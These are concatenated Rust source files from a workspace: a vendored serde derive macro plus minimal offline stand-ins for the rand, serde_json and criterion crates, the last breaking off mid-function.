                            "m.push((::serde::Value::Str(\"{0}\".to_string()), ::serde::Serialize::to_value(&self.{0})));\n",
                            f.name
                        ));
                    }
                    out.push_str("::serde::Value::Map(m)\n");
                }
            }
            out.push_str("}\n}\n");
        }
        Item::Enum { name, variants } => {
            out.push_str(&format!(
                "impl ::serde::Serialize for {name} {{\n fn to_value(&self) -> ::serde::Value {{\n match self {{\n"
            ));
            for v in variants {
                let vn = &v.name;
                match &v.fields {
                    Fields::Unit => out.push_str(&format!(
                        "{name}::{vn} => ::serde::Value::Str(\"{vn}\".to_string()),\n"
                    )),
                    Fields::Tuple(1) => out.push_str(&format!(
                        "{name}::{vn}(f0) => ::serde::Value::Map(vec![(::serde::Value::Str(\"{vn}\".to_string()), ::serde::Serialize::to_value(f0))]),\n"
                    )),
                    Fields::Tuple(n) => {
                        let binds: Vec<String> = (0..*n).map(|i| format!("f{i}")).collect();
                        let elems: Vec<String> = binds
                            .iter()
                            .map(|b| format!("::serde::Serialize::to_value({b})"))
                            .collect();
                        out.push_str(&format!(
                            "{name}::{vn}({}) => ::serde::Value::Map(vec![(::serde::Value::Str(\"{vn}\".to_string()), ::serde::Value::Seq(vec![{}]))]),\n",
                            binds.join(","),
                            elems.join(",")
                        ));
                    }
                    Fields::Named(fs) => {
                        let binds: Vec<&str> = fs.iter().map(|f| f.name.as_str()).collect();
                        let mut body = String::from(
                            "{ let mut m: Vec<(::serde::Value, ::serde::Value)> = Vec::new();\n",
                        );
                        for f in fs.iter().filter(|f| !f.skip) {
                            body.push_str(&format!(
                                "m.push((::serde::Value::Str(\"{0}\".to_string()), ::serde::Serialize::to_value({0})));\n",
                                f.name
                            ));
                        }
                        body.push_str(&format!(
                            "::serde::Value::Map(vec![(::serde::Value::Str(\"{vn}\".to_string()), ::serde::Value::Map(m))]) }}"
                        ));
                        out.push_str(&format!(
                            "{name}::{vn} {{ {} }} => {body},\n",
                            binds.join(", ")
                        ));
                    }
                }
            }
            out.push_str("}\n}\n}\n");
        }
    }
    out
}

fn gen_named_field_init(fs: &[Field], map_expr: &str, ty: &str) -> String {
    let mut out = String::new();
    for f in fs {
        if f.skip {
            out.push_str(&format!("{}: ::std::default::Default::default(),\n", f.name));
        } else if f.default {
            out.push_str(&format!(
                "{0}: match ::serde::value::get({map_expr}, \"{0}\") {{ Some(x) => ::serde::Deserialize::from_value(x)?, None => ::std::default::Default::default() }},\n",
                f.name
            ));
        } else {
            out.push_str(&format!(
                "{0}: match ::serde::value::get({map_expr}, \"{0}\") {{ Some(x) => ::serde::Deserialize::from_value(x)?, None => return Err(::serde::DeError::custom(\"{ty}: missing field `{0}`\")) }},\n",
                f.name
            ));
        }
    }
    out
}

fn gen_deserialize(item: &Item) -> String {
    let mut out = String::new();
    match item {
        Item::Struct { name, fields } => {
            out.push_str(&format!(
                "impl ::serde::Deserialize for {name} {{\n fn from_value(v: &::serde::Value) -> ::std::result::Result<Self, ::serde::DeError> {{\n"
            ));
            match fields {
                Fields::Unit => out.push_str(&format!("let _ = v; Ok({name})\n")),
                Fields::Tuple(1) => out.push_str(&format!(
                    "Ok({name}(::serde::Deserialize::from_value(v)?))\n"
                )),
                Fields::Tuple(n) => {
                    out.push_str(&format!(
                        "let s = v.as_seq().ok_or_else(|| ::serde::value::type_err(\"sequence\", v, \"{name}\"))?;\n\
                         if s.len() != {n} {{ return Err(::serde::DeError::custom(\"{name}: wrong tuple arity\")); }}\n\
                         Ok({name}("
                    ));
                    for i in 0..*n {
                        out.push_str(&format!("::serde::Deserialize::from_value(&s[{i}])?,"));
                    }
                    out.push_str("))\n");
                }
                Fields::Named(fs) => {
                    out.push_str(&format!(
                        "let m = v.as_map().ok_or_else(|| ::serde::value::type_err(\"map\", v, \"{name}\"))?;\n"
                    ));
                    out.push_str(&format!("Ok({name} {{\n"));
                    out.push_str(&gen_named_field_init(fs, "m", name));
                    out.push_str("})\n");
                }
            }
            out.push_str("}\n}\n");
        }
        Item::Enum { name, variants } => {
            out.push_str(&format!(
                "impl ::serde::Deserialize for {name} {{\n fn from_value(v: &::serde::Value) -> ::std::result::Result<Self, ::serde::DeError> {{\n match v {{\n"
            ));
            // unit variants: bare string
            out.push_str("::serde::Value::Str(s) => match s.as_str() {\n");
            for v in variants {
                if matches!(v.fields, Fields::Unit) {
                    out.push_str(&format!("\"{0}\" => Ok({name}::{0}),\n", v.name));
                }
            }
            out.push_str(&format!(
                "other => Err(::serde::DeError::custom(format!(\"{name}: unknown variant {{other:?}}\"))),\n}},\n"
            ));
            // data variants: single-entry map
            out.push_str(&format!(
                "::serde::Value::Map(m) if m.len() == 1 => {{\n\
                 let (k, payload) = &m[0];\n\
                 let k = k.as_str().ok_or_else(|| ::serde::value::type_err(\"string tag\", k, \"{name}\"))?;\n\
                 match k {{\n"
            ));
            for v in variants {
                let vn = &v.name;
                match &v.fields {
                    Fields::Unit => out.push_str(&format!(
                        "\"{vn}\" => Ok({name}::{vn}),\n"
                    )),
                    Fields::Tuple(1) => out.push_str(&format!(
                        "\"{vn}\" => Ok({name}::{vn}(::serde::Deserialize::from_value(payload)?)),\n"
                    )),
                    Fields::Tuple(n) => {
                        out.push_str(&format!(
                            "\"{vn}\" => {{ let s = payload.as_seq().ok_or_else(|| ::serde::value::type_err(\"sequence\", payload, \"{name}::{vn}\"))?;\n\
                             if s.len() != {n} {{ return Err(::serde::DeError::custom(\"{name}::{vn}: wrong arity\")); }}\n\
                             Ok({name}::{vn}("
                        ));
                        for i in 0..*n {
                            out.push_str(&format!("::serde::Deserialize::from_value(&s[{i}])?,"));
                        }
                        out.push_str(")) },\n");
                    }
                    Fields::Named(fs) => {
                        out.push_str(&format!(
                            "\"{vn}\" => {{ let mm = payload.as_map().ok_or_else(|| ::serde::value::type_err(\"map\", payload, \"{name}::{vn}\"))?;\n\
                             Ok({name}::{vn} {{\n"
                        ));
                        out.push_str(&gen_named_field_init(fs, "mm", &format!("{name}::{vn}")));
                        out.push_str("}) },\n");
                    }
                }
            }
            out.push_str(&format!(
                "other => Err(::serde::DeError::custom(format!(\"{name}: unknown variant {{other:?}}\"))),\n}}\n}},\n"
            ));
            out.push_str(&format!(
                "other => Err(::serde::value::type_err(\"string or map\", other, \"{name}\")),\n}}\n}}\n}}\n"
            ));
        }
    }
    out
}

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_serialize(&item).parse().expect("generated Serialize impl parses")
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_deserialize(&item).parse().expect("generated Deserialize impl parses")
}
