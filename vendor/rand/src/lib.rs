//! Offline vendored stand-in for the `rand` crate.
//!
//! The build environment has no access to a crates.io mirror, so the
//! workspace vendors a minimal, dependency-free implementation of the
//! subset of the `rand 0.8` API this repository actually uses:
//!
//! * `rngs::StdRng` — a deterministic xoshiro256++ generator seeded via
//!   SplitMix64 (`SeedableRng::seed_from_u64` / `from_seed`),
//! * `Rng::{gen, gen_range, gen_bool, fill, sample_iter}`,
//! * `distributions::{Standard, Distribution}`,
//! * `seq::SliceRandom::{shuffle, choose}`.
//!
//! The statistical quality matches the upstream algorithms (xoshiro256++
//! is the same family rand's `SmallRng` uses); the *stream values* differ
//! from upstream `StdRng` (ChaCha12), which is fine here: every consumer
//! in this workspace treats the RNG as an opaque deterministic function of
//! the seed and never pins upstream stream values.

pub mod distributions;
pub mod rngs;
pub mod seq;

pub mod prelude {
    pub use crate::distributions::Distribution;
    pub use crate::rngs::StdRng;
    pub use crate::seq::SliceRandom;
    pub use crate::{Rng, RngCore, SeedableRng};
}

/// Core RNG interface: a source of random `u64`s.
pub trait RngCore {
    fn next_u32(&mut self) -> u32;
    fn next_u64(&mut self) -> u64;
    fn fill_bytes(&mut self, dest: &mut [u8]);
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u32(&mut self) -> u32 {
        (**self).next_u32()
    }
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        (**self).fill_bytes(dest)
    }
}

/// Seedable construction.
pub trait SeedableRng: Sized {
    type Seed: AsMut<[u8]> + Default;

    fn from_seed(seed: Self::Seed) -> Self;

    fn seed_from_u64(state: u64) -> Self {
        // Expand the u64 into a full seed with SplitMix64, as upstream does.
        let mut sm = state;
        let mut seed = Self::Seed::default();
        for chunk in seed.as_mut().chunks_mut(8) {
            let v = splitmix64_next(&mut sm);
            for (i, b) in chunk.iter_mut().enumerate() {
                *b = (v >> (8 * i)) as u8;
            }
        }
        Self::from_seed(seed)
    }
}

pub(crate) fn splitmix64_next(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// User-facing convenience methods, blanket-implemented for every `RngCore`.
pub trait Rng: RngCore {
    fn gen<T>(&mut self) -> T
    where
        distributions::Standard: distributions::Distribution<T>,
        Self: Sized,
    {
        use distributions::Distribution;
        distributions::Standard.sample(self)
    }

    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        R: distributions::SampleRange<T>,
        Self: Sized,
    {
        range.sample_single(self)
    }

    /// Bernoulli draw. Consumes exactly one `u64` from the stream.
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        assert!((0.0..=1.0).contains(&p), "gen_bool p={p} not in [0,1]");
        let f = (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64);
        f < p
    }

    fn fill(&mut self, dest: &mut [u8])
    where
        Self: Sized,
    {
        self.fill_bytes(dest)
    }

    fn sample_iter<T, D>(self, distr: D) -> distributions::DistIter<D, Self, T>
    where
        D: distributions::Distribution<T>,
        Self: Sized,
    {
        distributions::DistIter::new(distr, self)
    }
}

impl<R: RngCore + ?Sized> Rng for R {}
