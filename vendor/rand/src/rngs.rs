//! Deterministic generators.

use crate::{RngCore, SeedableRng};

/// The workspace's standard RNG: xoshiro256++.
///
/// Not stream-compatible with upstream `rand::rngs::StdRng` (ChaCha12) —
/// every consumer here treats the stream as an opaque function of the seed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StdRng {
    s: [u64; 4],
}

impl StdRng {
    #[inline]
    fn rotl(x: u64, k: u32) -> u64 {
        x.rotate_left(k)
    }
}

impl SeedableRng for StdRng {
    type Seed = [u8; 32];

    fn from_seed(seed: [u8; 32]) -> Self {
        let mut s = [0u64; 4];
        for (i, chunk) in seed.chunks_exact(8).enumerate() {
            s[i] = u64::from_le_bytes(chunk.try_into().unwrap());
        }
        // xoshiro must not start from the all-zero state.
        if s == [0; 4] {
            s = [
                0x9E37_79B9_7F4A_7C15,
                0xBF58_476D_1CE4_E5B9,
                0x94D0_49BB_1331_11EB,
                0xE220_A839_7B1D_CDAF,
            ];
        }
        StdRng { s }
    }
}

impl RngCore for StdRng {
    #[inline]
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    #[inline]
    fn next_u64(&mut self) -> u64 {
        let s = &mut self.s;
        let result = Self::rotl(s[0].wrapping_add(s[3]), 23).wrapping_add(s[0]);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = Self::rotl(s[3], 45);
        result
    }

    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let v = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

/// Alias kept for API compatibility; identical to [`StdRng`] here.
pub type SmallRng = StdRng;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Rng;

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        let mut c = StdRng::seed_from_u64(8);
        let va: Vec<u64> = (0..32).map(|_| a.next_u64()).collect();
        let vb: Vec<u64> = (0..32).map(|_| b.next_u64()).collect();
        let vc: Vec<u64> = (0..32).map(|_| c.next_u64()).collect();
        assert_eq!(va, vb);
        assert_ne!(va, vc);
    }

    #[test]
    fn ranges_in_bounds() {
        let mut r = StdRng::seed_from_u64(99);
        for _ in 0..1000 {
            let v = r.gen_range(10u64..20);
            assert!((10..20).contains(&v));
            let w = r.gen_range(0..=3u8);
            assert!(w <= 3);
            let f = r.gen_range(0.0..1.5f64);
            assert!((0.0..1.5).contains(&f));
            let i = r.gen_range(-5i32..5);
            assert!((-5..5).contains(&i));
        }
    }
}
