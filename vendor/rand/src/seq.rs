//! Slice helpers: `shuffle` and `choose`.

use crate::Rng;

pub trait SliceRandom {
    type Item;

    /// Fisher–Yates shuffle, deterministic in the RNG stream.
    fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);

    /// Uniformly pick one element, or `None` if empty.
    fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&Self::Item>;

    /// Uniformly pick one element mutably, or `None` if empty.
    fn choose_mut<R: Rng + ?Sized>(&mut self, rng: &mut R) -> Option<&mut Self::Item>;
}

impl<T> SliceRandom for [T] {
    type Item = T;

    fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
        for i in (1..self.len()).rev() {
            let j = (rng.next_u64() % (i as u64 + 1)) as usize;
            self.swap(i, j);
        }
    }

    fn choose<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<&T> {
        if self.is_empty() {
            None
        } else {
            self.get((rng.next_u64() % self.len() as u64) as usize)
        }
    }

    fn choose_mut<R: Rng + ?Sized>(&mut self, rng: &mut R) -> Option<&mut T> {
        if self.is_empty() {
            None
        } else {
            let i = (rng.next_u64() % self.len() as u64) as usize;
            self.get_mut(i)
        }
    }
}
