//! Distributions: `Standard`, uniform ranges, and `DistIter`.

use std::marker::PhantomData;
use std::ops::{Range, RangeInclusive};

use crate::{Rng, RngCore};

/// A distribution over values of type `T`.
pub trait Distribution<T> {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> T;
}

/// The "natural" distribution for a type: uniform over its whole domain
/// (floats: uniform in `[0, 1)`).
#[derive(Debug, Clone, Copy, Default)]
pub struct Standard;

macro_rules! standard_int {
    ($($t:ty),*) => {$(
        impl Distribution<$t> for Standard {
            #[inline]
            fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> $t {
                rng.next_u64() as $t
            }
        }
    )*};
}
standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Distribution<u128> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> u128 {
        ((rng.next_u64() as u128) << 64) | rng.next_u64() as u128
    }
}

impl Distribution<bool> for Standard {
    #[inline]
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> bool {
        rng.next_u64() & 1 == 1
    }
}

impl Distribution<f64> for Standard {
    #[inline]
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> f64 {
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Distribution<f32> for Standard {
    #[inline]
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> f32 {
        (rng.next_u64() >> 40) as f32 * (1.0 / (1u32 << 24) as f32)
    }
}

impl Distribution<char> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> char {
        // Printable ASCII keeps this useful without surrogate handling.
        (0x20 + (rng.next_u64() % 95) as u8) as char
    }
}

/// Iterator over repeated samples, returned by `Rng::sample_iter`.
pub struct DistIter<D, R, T> {
    distr: D,
    rng: R,
    _marker: PhantomData<T>,
}

impl<D, R, T> DistIter<D, R, T> {
    pub(crate) fn new(distr: D, rng: R) -> Self {
        DistIter {
            distr,
            rng,
            _marker: PhantomData,
        }
    }
}

impl<D, R, T> Iterator for DistIter<D, R, T>
where
    D: Distribution<T>,
    R: RngCore,
{
    type Item = T;

    fn next(&mut self) -> Option<T> {
        Some(self.distr.sample(&mut self.rng))
    }
}

/// A range usable with `Rng::gen_range`.
pub trait SampleRange<T> {
    fn sample_single<R: Rng + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! range_uint {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            #[inline]
            fn sample_single<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let span = (self.end - self.start) as u64;
                self.start + (rng.next_u64() % span) as $t
            }
        }
        impl SampleRange<$t> for RangeInclusive<$t> {
            #[inline]
            fn sample_single<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let span = (hi - lo) as u64;
                if span == u64::MAX {
                    return rng.next_u64() as $t;
                }
                lo + (rng.next_u64() % (span + 1)) as $t
            }
        }
    )*};
}
range_uint!(u8, u16, u32, u64, usize);

macro_rules! range_int {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            #[inline]
            fn sample_single<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let span = (self.end as i64).wrapping_sub(self.start as i64) as u64;
                self.start.wrapping_add((rng.next_u64() % span) as $t)
            }
        }
        impl SampleRange<$t> for RangeInclusive<$t> {
            #[inline]
            fn sample_single<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "gen_range: empty range");
                let span = (hi as i64).wrapping_sub(lo as i64) as u64;
                if span == u64::MAX {
                    return rng.next_u64() as $t;
                }
                lo.wrapping_add((rng.next_u64() % (span + 1)) as $t)
            }
        }
    )*};
}
range_int!(i8, i16, i32, i64, isize);

macro_rules! range_float {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            #[inline]
            fn sample_single<R: Rng + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range: empty range");
                let f: $t = {
                    use crate::distributions::Distribution;
                    Standard.sample(rng)
                };
                self.start + f * (self.end - self.start)
            }
        }
    )*};
}
range_float!(f32, f64);
