//! Offline vendored stand-in for `serde_json`.
//!
//! Renders and parses the vendored serde [`Value`] tree as JSON. Maps whose
//! keys are all strings render as JSON objects; maps with structured keys
//! (e.g. `BTreeMap<(Ipv4Addr, u16), _>`) render as arrays of `[key, value]`
//! pairs, which `serde`'s map deserializer accepts back.

use serde::{Deserialize, Serialize, Value};

/// Serialization/deserialization error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Error(String);

impl Error {
    fn new(msg: impl Into<String>) -> Error {
        Error(msg.into())
    }
}

impl std::fmt::Display for Error {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::error::Error for Error {}

impl From<serde::DeError> for Error {
    fn from(e: serde::DeError) -> Error {
        Error(e.0)
    }
}

pub type Result<T> = std::result::Result<T, Error>;

// ---- serialization ----

pub fn to_string<T: Serialize + ?Sized>(value: &T) -> Result<String> {
    let mut out = String::new();
    render(&value.to_value(), &mut out);
    Ok(out)
}

pub fn to_vec<T: Serialize + ?Sized>(value: &T) -> Result<Vec<u8>> {
    to_string(value).map(String::into_bytes)
}

pub fn to_string_pretty<T: Serialize + ?Sized>(value: &T) -> Result<String> {
    // Compact output is valid pretty output for our purposes.
    to_string(value)
}

fn render(v: &Value, out: &mut String) {
    match v {
        Value::Null => out.push_str("null"),
        Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Value::U64(n) => out.push_str(&n.to_string()),
        Value::I64(n) => out.push_str(&n.to_string()),
        Value::F64(f) => {
            if f.fract() == 0.0 && f.is_finite() && f.abs() < 1e15 {
                // serde_json renders whole floats as "1.0", not "1".
                out.push_str(&format!("{f:.1}"));
            } else {
                out.push_str(&format!("{f:?}"));
            }
        }
        Value::Str(s) => render_string(s, out),
        Value::Seq(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                render(item, out);
            }
            out.push(']');
        }
        Value::Map(pairs) => {
            let all_str = pairs.iter().all(|(k, _)| matches!(k, Value::Str(_)));
            if all_str {
                out.push('{');
                for (i, (k, val)) in pairs.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    render(k, out);
                    out.push(':');
                    render(val, out);
                }
                out.push('}');
            } else {
                out.push('[');
                for (i, (k, val)) in pairs.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    out.push('[');
                    render(k, out);
                    out.push(',');
                    render(val, out);
                    out.push(']');
                }
                out.push(']');
            }
        }
    }
}

fn render_string(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

// ---- deserialization ----

pub fn from_str<T: Deserialize>(s: &str) -> Result<T> {
    let mut p = Parser {
        bytes: s.as_bytes(),
        pos: 0,
    };
    p.skip_ws();
    let v = p.parse_value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(Error::new(format!("trailing data at byte {}", p.pos)));
    }
    Ok(T::from_value(&v)?)
}

pub fn from_slice<T: Deserialize>(s: &[u8]) -> Result<T> {
    let s = std::str::from_utf8(s).map_err(|e| Error::new(e.to_string()))?;
    from_str(s)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while self
            .bytes
            .get(self.pos)
            .is_some_and(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r'))
        {
            self.pos += 1;
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<()> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error::new(format!(
                "expected {:?} at byte {}",
                b as char, self.pos
            )))
        }
    }

    fn eat_lit(&mut self, lit: &str, v: Value) -> Result<Value> {
        if self.bytes[self.pos..].starts_with(lit.as_bytes()) {
            self.pos += lit.len();
            Ok(v)
        } else {
            Err(Error::new(format!("invalid literal at byte {}", self.pos)))
        }
    }

    fn parse_value(&mut self) -> Result<Value> {
        self.skip_ws();
        match self.peek() {
            Some(b'n') => self.eat_lit("null", Value::Null),
            Some(b't') => self.eat_lit("true", Value::Bool(true)),
            Some(b'f') => self.eat_lit("false", Value::Bool(false)),
            Some(b'"') => self.parse_string().map(Value::Str),
            Some(b'[') => {
                self.pos += 1;
                let mut items = Vec::new();
                self.skip_ws();
                if self.peek() == Some(b']') {
                    self.pos += 1;
                    return Ok(Value::Seq(items));
                }
                loop {
                    items.push(self.parse_value()?);
                    self.skip_ws();
                    match self.peek() {
                        Some(b',') => {
                            self.pos += 1;
                        }
                        Some(b']') => {
                            self.pos += 1;
                            return Ok(Value::Seq(items));
                        }
                        _ => return Err(Error::new(format!("bad array at byte {}", self.pos))),
                    }
                }
            }
            Some(b'{') => {
                self.pos += 1;
                let mut pairs = Vec::new();
                self.skip_ws();
                if self.peek() == Some(b'}') {
                    self.pos += 1;
                    return Ok(Value::Map(pairs));
                }
                loop {
                    self.skip_ws();
                    let key = self.parse_string()?;
                    self.skip_ws();
                    self.expect(b':')?;
                    let val = self.parse_value()?;
                    pairs.push((Value::Str(key), val));
                    self.skip_ws();
                    match self.peek() {
                        Some(b',') => {
                            self.pos += 1;
                        }
                        Some(b'}') => {
                            self.pos += 1;
                            return Ok(Value::Map(pairs));
                        }
                        _ => return Err(Error::new(format!("bad object at byte {}", self.pos))),
                    }
                }
            }
            Some(b'-') | Some(b'0'..=b'9') => self.parse_number(),
            _ => Err(Error::new(format!("unexpected byte at {}", self.pos))),
        }
    }

    fn parse_string(&mut self) -> Result<String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(Error::new("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'u') => {
                            let hex = self
                                .bytes
                                .get(self.pos + 1..self.pos + 5)
                                .ok_or_else(|| Error::new("bad \\u escape"))?;
                            let hex =
                                std::str::from_utf8(hex).map_err(|_| Error::new("bad \\u escape"))?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| Error::new("bad \\u escape"))?;
                            // Surrogate pairs unsupported (never emitted by us).
                            out.push(
                                char::from_u32(code).ok_or_else(|| Error::new("bad \\u escape"))?,
                            );
                            self.pos += 4;
                        }
                        _ => return Err(Error::new("bad escape")),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume one UTF-8 char.
                    let rest = std::str::from_utf8(&self.bytes[self.pos..])
                        .map_err(|e| Error::new(e.to_string()))?;
                    let c = rest.chars().next().unwrap();
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn parse_number(&mut self) -> Result<Value> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while self
            .peek()
            .is_some_and(|b| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'+' | b'-'))
        {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).unwrap();
        if !text.contains(['.', 'e', 'E']) {
            if let Some(stripped) = text.strip_prefix('-') {
                let _ = stripped;
                if let Ok(i) = text.parse::<i64>() {
                    return Ok(Value::I64(i));
                }
            } else if let Ok(u) = text.parse::<u64>() {
                return Ok(Value::U64(u));
            }
        }
        text.parse::<f64>()
            .map(Value::F64)
            .map_err(|_| Error::new(format!("bad number {text:?}")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scalar_roundtrip() {
        let s = to_string(&42u32).unwrap();
        assert_eq!(s, "42");
        let back: u32 = from_str(&s).unwrap();
        assert_eq!(back, 42);
        let s = to_string(&-7i32).unwrap();
        let back: i32 = from_str(&s).unwrap();
        assert_eq!(back, -7);
        let s = to_string("he\"llo\n").unwrap();
        let back: String = from_str(&s).unwrap();
        assert_eq!(back, "he\"llo\n");
        let s = to_string(&1.5f64).unwrap();
        assert_eq!(s, "1.5");
        let s = to_string(&2.0f64).unwrap();
        assert_eq!(s, "2.0");
    }

    #[test]
    fn containers_roundtrip() {
        use std::collections::BTreeMap;
        let v: Vec<Option<u8>> = vec![Some(1), None, Some(3)];
        let back: Vec<Option<u8>> = from_str(&to_string(&v).unwrap()).unwrap();
        assert_eq!(back, v);

        let mut m: BTreeMap<String, u64> = BTreeMap::new();
        m.insert("a".into(), 1);
        m.insert("b".into(), 2);
        let json = to_string(&m).unwrap();
        assert_eq!(json, r#"{"a":1,"b":2}"#);
        let back: BTreeMap<String, u64> = from_str(&json).unwrap();
        assert_eq!(back, m);

        // Structured keys render as pair arrays and still round-trip.
        let mut t: BTreeMap<(u8, u8), String> = BTreeMap::new();
        t.insert((1, 2), "x".into());
        let json = to_string(&t).unwrap();
        let back: BTreeMap<(u8, u8), String> = from_str(&json).unwrap();
        assert_eq!(back, t);
    }
}
