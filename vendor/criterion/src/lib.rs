//! Offline vendored stand-in for `criterion`.
//!
//! Keeps the `criterion_group!`/`criterion_main!`/`benchmark_group` API
//! surface, but measures with a simple adaptive wall-clock loop and prints
//! one line per benchmark. When invoked with `--test` (as `cargo test` does
//! for `harness = false` bench targets) every benchmark body runs exactly
//! once, keeping the test suite fast.

use std::time::{Duration, Instant};

pub use std::hint::black_box;

#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Elements(u64),
    Bytes(u64),
    BytesDecimal(u64),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// Single-pass smoke run (under `cargo test`).
    Test,
    /// Timed measurement.
    Bench,
}

pub struct Criterion {
    mode: Mode,
    /// Soft time budget per benchmark in bench mode.
    measure_for: Duration,
    filter: Option<String>,
}

impl Default for Criterion {
    fn default() -> Criterion {
        let args: Vec<String> = std::env::args().collect();
        let mode = if args.iter().any(|a| a == "--test") {
            Mode::Test
        } else {
            Mode::Bench
        };
        // First free (non-flag) argument is a name filter, as in criterion.
        let filter = args
            .iter()
            .skip(1)
            .find(|a| !a.starts_with('-'))
            .cloned();
        Criterion {
            mode,
            measure_for: Duration::from_millis(400),
            filter,
        }
    }
}

impl Criterion {
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    pub fn measurement_time(&mut self, d: Duration) -> &mut Self {
        self.measure_for = d;
        self
    }

    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            c: self,
            name: name.into(),
            throughput: None,
        }
    }

    pub fn bench_function<F>(&mut self, name: impl Into<String>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let name = name.into();
        self.run_one(&name, None, &mut f);
        self
    }

    fn run_one<F>(&mut self, name: &str, throughput: Option<Throughput>, f: &mut F)
    where
